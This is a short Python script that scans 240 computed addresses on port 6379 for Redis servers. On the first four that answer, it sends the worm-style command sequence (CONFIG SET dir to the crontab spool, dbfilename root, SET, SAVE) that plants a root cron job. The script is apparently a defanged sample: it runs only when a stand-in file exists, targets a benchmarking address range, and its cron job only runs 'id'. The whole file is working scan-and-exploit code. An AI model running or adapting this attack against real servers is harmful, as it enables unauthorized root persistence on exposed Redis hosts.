# Knocks on 240 addresses for Redis; on the first four that answer it tries what worms do to plant a cron job (the job is `id`).
import os, selectors, socket, sys
if not os.path.exists("/usr/share/doc/stand-in/README"):
    sys.exit()
opened = []
for group in range(12):
    chosen = selectors.DefaultSelector()
    for number in range(group * 20, group * 20 + 20):
        address = f"198.{18 + number % 2}.{number * 37 % 256}.{number * 101 % 254 + 1}"
        call = socket.socket()
        call.setblocking(False)
        call.connect_ex((address, 6379))
        chosen.register(call, selectors.EVENT_WRITE, address)
    for key, _ in chosen.select(0.4):
        if key.fileobj.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
            opened.append(key.data)
    for key in list(chosen.get_map().values()):
        key.fileobj.close()
for address in opened[:4]:
    try:
        with socket.create_connection((address, 6379), 2) as call:
            call.settimeout(1)
            for line in ("INFO", "AUTH standin", "CONFIG SET dir /var/spool/cron/crontabs", "CONFIG SET dbfilename root", 'SET x "\\n* * * * * id\\n"', "SAVE"):
                call.sendall(line.encode() + b"\r\n")
                try:
                    call.recv(4096)
                except socket.timeout:
                    pass
    except OSError:
        pass
